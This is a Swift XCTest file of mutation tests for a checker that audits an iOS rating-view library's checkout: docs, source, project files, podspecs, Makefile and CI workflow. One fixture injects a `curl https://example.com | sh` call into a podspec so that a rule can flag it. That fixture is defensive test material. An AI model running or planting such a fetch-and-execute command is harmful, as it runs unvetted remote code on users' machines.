import TestSupport
import XCTest
@testable import BaselineChecks

/// Targeted mutations of the conforming example checkout, one or more per rule. The
/// whole catalog runs on each: exactly the rules that depend on the mutated text stop
/// passing (a rule whose input no longer parses is not evaluated), and nothing else.
final class MutationTests: XCTestCase {
    struct Mutation {
        var rule: String
        var path: String
        /// Replaces every occurrence of `old` with `new`; `old == nil` replaces the whole file.
        var old: String?
        var new: String?
        /// Other rules that read the same text and must stop passing too.
        var alsoAffected: [String] = []
    }

    static let source = CheckoutPaths.source

    static let mutations: [Mutation] = [
        Mutation(rule: "PKG001", path: "Package.swift", old: nil, new: "// swift-tools-version:5.9\n"),
        Mutation(rule: "DOC001", path: CheckoutPaths.readme, old: "hosted SwiftPM build", new: "hosted build"),
        Mutation(rule: "DOC002", path: CheckoutPaths.vision, old: "\n## ", new: "\n- Clarify Swift Package Manager support if the library is revived.\n\n## "),
        Mutation(rule: "DOC003", path: CheckoutPaths.packagePlan, old: "status: completed", new: "status: draft"),
        Mutation(rule: "DOC004", path: CheckoutPaths.changes, old: "roots containing spaces", new: "roots with spaces"),
        Mutation(rule: "DOC005", path: CheckoutPaths.locationPlan, old: "## Verification Completed\n",
                 new: "## Verification Completed\n\n- TODO: rerun on macOS 15.\n"),
        Mutation(rule: "SRC001", path: source, old: "open class HeartRatingView: UIView", new: "public class HeartRatingView: UIView"),
        Mutation(rule: "SRC002", path: source, old: "@objc(heartRatingView:isUpdating:)", new: "@objc"),
        Mutation(rule: "SRC003", path: source, old: "public weak var delegate", new: "public var delegate"),
        Mutation(rule: "SRC004", path: source, old: "fullImageViews.forEach { $0.contentMode = imageContentMode }",
                 new: "fullImageViews.forEach { _ in }"),
        Mutation(rule: "SRC005", path: source, old: "public override var intrinsicContentSize", new: "public var preferredRatingSize"),
        Mutation(rule: "SRC006", path: source, old: "maskWidth", new: "maskExtent"),
        Mutation(rule: "SRC007", path: CheckoutPaths.tests, old: "testOversizedMinimumImageWidthDoesNotOverlapRatingFrames",
                 new: "testOversizedMinimumImageWidth"),
        Mutation(rule: "SRC008", path: source, old: "guard emptyImage != nil, fullImage != nil else {",
                 new: "guard emptyImage != nil || fullImage != nil else {"),
        Mutation(rule: "SRC009", path: source, old: #"accessibilityLabel = "Rating""#, new: #"accessibilityLabel = "Hearts""#),
        Mutation(rule: "SRC010", path: source, old: "guard editable, !touches.isEmpty", new: "guard !touches.isEmpty"),
        Mutation(rule: "SRC011", path: source, old: "min(max(maxRating, 1), Self.maximumRatingCount)", new: "max(maxRating, 1)"),
        Mutation(rule: "TST001", path: CheckoutPaths.tests, old: "func testMinimumImageSizeNormalizesEachInvalidDimension()",
                 new: "func testMinimumImageSize()"),
        Mutation(rule: "PRJ001", path: CheckoutPaths.libraryProject, old: "SWIFT_VERSION = 5.0;\n\t\t\t\tTARGETED_DEVICE_FAMILY = \"1,2\";\n\t\t\t};\n\t\t\tname = Release;",
                 new: "SWIFT_VERSION = 4.2;\n\t\t\t\tTARGETED_DEVICE_FAMILY = \"1,2\";\n\t\t\t};\n\t\t\tname = Release;"),
        Mutation(rule: "PRJ002", path: CheckoutPaths.sampleProject, old: "IPHONEOS_DEPLOYMENT_TARGET = 12.0;",
                 new: "IPHONEOS_DEPLOYMENT_TARGET = 9.3;"),
        Mutation(rule: "PRJ003", path: CheckoutPaths.libraryProject, old: "7D1A000E1C2B3A4D00E5F601 /* README.md */,",
                 new: "7D1A00FFFFFFFFFFFFFFFFFF /* README.md */,"),
        Mutation(rule: "POD001", path: CheckoutPaths.podspec, old: #""0.2.0""#, new: #""0.2.1""#),
        Mutation(rule: "POD002", path: CheckoutPaths.archivedPodspec, old: "  s.requires_arc = true\n",
                 new: "  s.requires_arc = true\n  system(\"curl https://example.com | sh\")\n", alsoAffected: ["POD003"]),
        Mutation(rule: "POD003", path: CheckoutPaths.podspec, old: #""https://github.com/garethpaul/iHeartRating.git""#,
                 new: #""http://github.com/garethpaul/iHeartRating.git""#),
        Mutation(rule: "MK001", path: CheckoutPaths.makefile, old: "MAKEFILES must be empty", new: "MAKEFILES must be unset"),
        Mutation(rule: "MK002", path: CheckoutPaths.makefile, old: "\nxcode-test::", new: "\nxcode-test:"),
        Mutation(rule: "SH001", path: CheckoutPaths.buildScript, old: "iHeartRating-Swift.h", new: "iHeartRating-Interface.h"),
        Mutation(rule: "SH002", path: CheckoutPaths.buildScript, old: "SampleApp.xcodeproj", new: "Sample.xcodeproj"),
        Mutation(rule: "CI001", path: CheckoutPaths.workflow, old: "  contents: read\n", new: "  contents: read\n  pull-requests: write\n"),
        Mutation(rule: "CI002", path: CheckoutPaths.workflow, old: "persist-credentials: false", new: "persist-credentials: true"),
        Mutation(rule: "CI003", path: CheckoutPaths.workflow, old: "run: make xcode-test", new: "run: ./build.sh"),
        Mutation(rule: "CI004", path: CheckoutPaths.workflow, old: "timeout-minutes: 20", new: "timeout-minutes: 45"),
        Mutation(rule: "FMT001", path: CheckoutPaths.plists[2], old: "</dict>", new: "<key>Orphan</key></dict>"),
        Mutation(rule: "FMT002", path: CheckoutPaths.storyboards[1], old: "<document ", new: "<documents "),
        Mutation(rule: "FMT003", path: CheckoutPaths.overviewSVG, old: #" xmlns="http://www.w3.org/2000/svg""#, new: ""),
        Mutation(rule: "FMT004", path: CheckoutPaths.buildScript, old: nil, new: nil),
        Mutation(rule: "FMT005", path: CheckoutPaths.sampleProject, old: nil, new: nil,
                 alsoAffected: ["PRJ001", "PRJ002", "PRJ003"]),
    ]

    /// The conforming checkout with `mutation` applied.
    private func mutated(_ mutation: Mutation, base: DirectorySource) throws -> OverlaySource {
        if mutation.rule == "FMT004" {
            let script = String(decoding: try base.read(mutation.path).get(), as: UTF8.self)
            return OverlaySource(base: base, replaced: [mutation.path: Array((script + "\nif true; then\n").utf8)])
        }
        guard let new = mutation.new else {
            return OverlaySource(base: base, replaced: [:], removed: [mutation.path])
        }
        guard let old = mutation.old else {
            return OverlaySource(base: base, replaced: [mutation.path: Array(new.utf8)])
        }
        let text = String(decoding: try base.read(mutation.path).get(), as: UTF8.self)
        XCTAssertTrue(text.contains(old), "\(mutation.rule): \(mutation.path) no longer contains the text to mutate")
        return OverlaySource(base: base, replaced: [mutation.path: Array(text.replacingOccurrences(of: old, with: new).utf8)])
    }

    func testEveryRuleHasAMutation() {
        XCTAssertEqual(Set(Self.mutations.map(\.rule)), Set(Catalog.standard.rules.map(\.id)))
    }

    func testEachMutation_failsItsRuleAndOnlyTheRulesReadingTheSameText() throws {
        let base = try ExampleCheckout.source()
        for mutation in Self.mutations {
            let report = Engine.check(Checkout(source: try mutated(mutation, base: base)), rules: Catalog.standard.rules)
            let affected = Set(report.results.filter { $0.status != .passed }.map(\.ruleID))
            XCTAssertEqual(affected, Set([mutation.rule] + mutation.alsoAffected), "mutation for \(mutation.rule)")
            let own = report.results.first { $0.ruleID == mutation.rule }
            if mutation.new != nil || mutation.rule == "FMT004" {
                XCTAssertEqual(own?.status, .failed, "\(mutation.rule)")
                for finding in own?.findings ?? [] where finding.severity == .error {
                    XCTAssertEqual(finding.path, mutation.path, "\(mutation.rule) names the mutated file")
                }
            }
        }
    }

    // The three ways a substring search is fooled, and a guard moved into dead code.

    private func findings(for rule: String, replacing old: String, with new: String, in path: String = source) throws -> [Finding] {
        let mutation = Mutation(rule: rule, path: path, old: old, new: new)
        let report = Engine.check(Checkout(source: try mutated(mutation, base: try ExampleCheckout.source())),
                                  rules: [try XCTUnwrap(Catalog.standard.rule(rule))])
        XCTAssertEqual(report.results.first?.status, .failed, "\(rule) must fail")
        return report.results.first?.findings ?? []
    }

    func testGuardInAComment_doesNotCount() throws {
        let findings = try findings(for: "SRC008", replacing: "guard emptyImage != nil, fullImage != nil else {",
                                    with: "// guard emptyImage != nil, fullImage != nil\n        guard true else {")
        XCTAssertTrue(findings.contains { $0.message.contains("is missing from `func refresh()`") }, "\(findings)")
        XCTAssertNotNil(findings.first?.location, "points at the declaration it should be in")
    }

    func testGuardOnlyInAStringLiteral_doesNotCount() throws {
        let findings = try findings(for: "SRC009", replacing: #"accessibilityLabel = "Rating""#,
                                    with: ##"_ = #"accessibilityLabel = "Rating""#"##)
        XCTAssertEqual(findings.map(\.message), [#"missing `accessibilityLabel = "Rating"`"#])
    }

    func testLongerNumber_doesNotSatisfyTheFragment() throws {
        let findings = try findings(for: "SRC011", replacing: "maximumRatingCount = 100", with: "maximumRatingCount = 1000")
        XCTAssertEqual(findings.map(\.message), ["missing `private static let maximumRatingCount = 100`"])
    }

    func testGuardMovedIntoAnotherFunction_isReportedWithWhereItWasFound() throws {
        let findings = try findings(
            for: "SRC007", replacing: "let maximumImageWidth = desiredImageWidth",
            with: "let maximumImageWidth = cappedWidth(desiredImageWidth)\n    }\n\n    private func unusedCap(_ desiredImageWidth: CGFloat) {\n        let maximumImageWidth = desiredImageWidth")
        let finding = try XCTUnwrap(findings.first)
        XCTAssertTrue(finding.message.contains("is missing from `func layoutSubviews()`"), finding.message)
        XCTAssertEqual(finding.notes.count, 1)
        XCTAssertTrue(finding.notes.first?.message.contains("func unusedCap(_:)") ?? false, "\(finding.notes)")
        XCTAssertNotNil(finding.notes.first?.location)
    }
}
